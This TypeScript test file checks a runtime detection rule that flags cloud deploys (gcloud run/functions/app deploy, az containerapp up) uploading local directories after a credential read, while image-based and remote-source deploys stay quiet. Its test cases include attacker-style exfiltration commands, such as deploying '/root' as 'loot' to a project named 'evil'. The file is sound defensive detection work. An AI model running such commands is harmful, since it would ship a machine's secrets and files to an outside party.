/**
 * Deploys that upload a local source directory to be built into an image in the cloud's registry (red-team
 * review: each was no push): `gcloud run deploy --source DIR`, `gcloud functions deploy`, `gcloud app deploy`
 * put the directory in a Cloud Storage bucket for Cloud Build; `az containerapp up --source DIR` is an ACR
 * build. The same commands naming an image or a source already in the cloud upload nothing of the machine's,
 * and uploads that end in neither a forge nor a registry (App Service zips, Lambda zips) are no push
 * (INTERFACES.md).
 */
import { describe, expect, it } from 'vitest';
import { brief } from './builder.js';
import { credentialReadThen } from './cloud-cli-scenario.js';

const API_IP = '142.250.74.91';

function secretThen(binary: string, args: string, source: 'tetragon' | 'falco' = 'tetragon') {
  return credentialReadThen(binary, args, API_IP, source);
}

describe('cloud deploys of a local source', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`gcloud deploys of a local directory go to Cloud Storage (${source})`, () => {
      for (const [args, remote] of [
        ['run deploy loot --source /root --region us-central1', '/root'],
        ['run deploy loot --region=us-central1', null],
        ['beta run jobs deploy loot --source=. --region us-central1', '.'],
        ['functions deploy loot --gen2 --runtime python312 --trigger-http --source /srv/data', '/srv/data'],
        ['functions deploy loot --runtime nodejs20 --trigger-http', null],
        ['app deploy /srv/app/app.yaml --quiet', '/srv/app/app.yaml'],
        ['--project evil app deploy', null],
      ] as const) {
        const alerts = secretThen('/usr/bin/gcloud', args, source);
        expect(brief(alerts), args).toEqual([
          { rule: 'sensitive-read-then-push', severity: 'high', tool: 'gcloud', destination: 'storage.googleapis.com' },
        ]);
        expect(alerts[0]!.push.remote, args).toBe(remote);
      }
    });
  }

  it('az containerapp up of a local directory is a push to the first connect', () => {
    for (const args of ['containerapp up -n loot --source /srv/data', 'containerapp up --source . --name loot -g rg']) {
      const alerts = secretThen('/usr/bin/az', args);
      expect(brief(alerts), args).toEqual([
        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'az', destination: `${API_IP}:443` },
      ]);
      expect(alerts[0]!.push.remote, args).toBe('loot');
    }
  });

  it('deploys of an image, of a source already in the cloud, of configuration alone, and previews stay quiet', () => {
    for (const [binary, args] of [
      ['/usr/bin/gcloud', 'run deploy app --image us-docker.pkg.dev/acme/app/app:1 --region us-central1'],
      ['/usr/bin/gcloud', 'run jobs deploy job --image=us-docker.pkg.dev/acme/app/job:1'],
      ['/usr/bin/gcloud', 'functions deploy fn --source gs://acme-src/fn.zip --runtime go122 --trigger-http'],
      [
        '/usr/bin/gcloud',
        'functions deploy fn --source https://source.developers.google.com/projects/acme/repos/fn --runtime go122',
      ],
      ['/usr/bin/gcloud', 'app deploy cron.yaml'],
      ['/usr/bin/gcloud', 'app deploy /srv/app/dispatch.yaml /srv/app/queue.yaml'],
      ['/usr/bin/gcloud', 'run services list'],
      // App Service and Lambda: neither a forge nor a registry (INTERFACES.md: nothing for such uploads).
      ['/usr/bin/az', 'webapp up --name loot --runtime PYTHON:3.12'],
      ['/usr/bin/az', 'webapp deploy -g rg -n loot --src-path /tmp/loot.zip --type zip'],
      ['/usr/bin/az', 'functionapp deployment source config-zip -g rg -n loot --src /tmp/loot.zip'],
      ['/usr/local/bin/aws', 'lambda update-function-code --function-name loot --zip-file fileb:///tmp/loot.zip'],
      ['/usr/bin/az', 'webapp up --name app --dryrun'],
      ['/usr/bin/az', 'webapp deploy -g rg -n app --src-url https://acme.blob.core.windows.net/a/app.zip --type zip'],
      ['/usr/bin/az', 'containerapp up -n app --image mcr.microsoft.com/k8se/quickstart:latest'],
      ['/usr/bin/az', 'webapp list'],
      ['/usr/local/bin/aws', 'lambda update-function-code --function-name app --s3-bucket acme --s3-key app.zip'],
      [
        '/usr/local/bin/aws',
        'lambda update-function-code --function-name app --image-uri 1.dkr.ecr.us-east-1.amazonaws.com/a:1',
      ],
      ['/usr/local/bin/aws', 'lambda get-function --function-name app'],
    ] as const)
      expect(secretThen(binary, args), args).toEqual([]);
  });
});
